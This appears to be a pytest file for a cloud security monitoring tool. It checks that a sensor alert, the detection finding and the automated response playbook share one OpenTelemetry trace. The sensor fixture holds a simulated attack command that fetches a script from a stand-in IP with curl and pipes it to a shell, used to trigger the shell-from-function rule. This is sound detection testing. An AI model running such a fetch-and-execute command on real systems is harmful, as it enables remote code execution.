"""One trace from the attack to the response: the sensor's span, the finding, the playbook.

The function's OpenTelemetry ids ride on the sensor line; the ingest pipeline's
``ramparts.finding`` span is a child of the sensor's span; the playbook's responders'
spans join the same trace through the finding in the execution input."""

from __future__ import annotations

import json

import pytest
from opentelemetry.sdk.trace.export.in_memory_span_exporter import InMemorySpanExporter

from collectors import adapter
from collectors.base import Context
from functions import telemetry
from functions.pipeline import Pipeline
from tests.playbooks.fixtures import make_function
from tests.playbooks.harness import ACCOUNT, REGION

TRACE = "4bf92f3577b34da6a3ce929d0e0e4736"
SPAN = "00f067aa0ba902b7"
EXPORTER = InMemorySpanExporter()


@pytest.fixture
def spans():
    telemetry.reset()
    assert telemetry.configure("test", [EXPORTER])
    EXPORTER.clear()
    yield EXPORTER
    EXPORTER.clear()
    telemetry.reset()


def _sensor_line(function: str) -> str:
    return json.dumps(
        {
            "ramparts": 1,
            "kind": "process.spawn",
            "verdict": "alert",
            "rule": "default.shell",
            "mode": "monitor",
            "executable": "/usr/bin/dash",
            "op": "popen",
            "argv": ["/bin/sh", "-c", "id; curl http://203.0.113.7/x | sh"],
            "programs": ["/usr/bin/dash", "/usr/bin/id", "/usr/bin/curl"],
            "sandbox": "5490db832e04c471",
            "seq": 4,
            "time": 1796417910529,
            "request_id": "9aa6a865-e663-48bd-8194-7135eb38f119",
            "trace_id": TRACE,
            "span_id": SPAN,
        }
    )


def test_sensor_event_finding_and_response_share_one_trace(h, spans) -> None:
    fn = make_function(h, "traced-victim")
    ctx = Context(account=ACCOUNT, region=REGION, function="traced-victim")
    batch = adapter("layer").normalize(_sensor_line("traced-victim"), ctx)
    result = Pipeline().process(batch)
    assert result.published, result.alerts
    detail = next(
        p.detail() for p in result.published if p.record.rule_id == "process.shell-from-function"
    )
    assert detail["resources"][0]["uid"] == fn["arn"]
    assert detail["unmapped"]["ramparts"]["trace_id"] == TRACE

    found = [s for s in spans.get_finished_spans() if s.name == "ramparts.finding"]
    assert found and all(format(s.context.trace_id, "032x") == TRACE for s in found)
    assert all(format(s.parent.span_id, "016x") == SPAN for s in found)
    assert {s.attributes["ramparts.rule"] for s in found} >= {"process.shell-from-function"}

    spans.clear()
    started = h.publish(detail)
    assert started, "the finding was routed to a playbook"
    for arn in started:
        assert h.wait(arn)["status"] == "SUCCEEDED"
    responders = [s for s in spans.get_finished_spans() if s.name.startswith("ramparts.respond.")]
    names = {s.name for s in responders}
    assert "ramparts.respond.guardrails" in names and len(names) >= 2, names
    assert all(format(s.context.trace_id, "032x") == TRACE for s in responders), [
        (s.name, format(s.context.trace_id, "032x")) for s in responders
    ]
    guard = [s for s in responders if s.name == "ramparts.respond.status"]
    assert all(s.attributes["ramparts.resource"] == fn["arn"] for s in guard)


def test_without_trace_ids_the_finding_span_starts_its_own_trace(spans) -> None:
    ctx = Context(account=ACCOUNT, region=REGION, function="untraced")
    line = json.loads(_sensor_line("untraced"))
    del line["trace_id"], line["span_id"]
    result = Pipeline().process(adapter("layer").normalize(json.dumps(line), ctx))
    assert result.published
    found = [s for s in spans.get_finished_spans() if s.name == "ramparts.finding"]
    assert found and all(s.parent is None for s in found)
    assert all(format(s.context.trace_id, "032x") != TRACE for s in found)
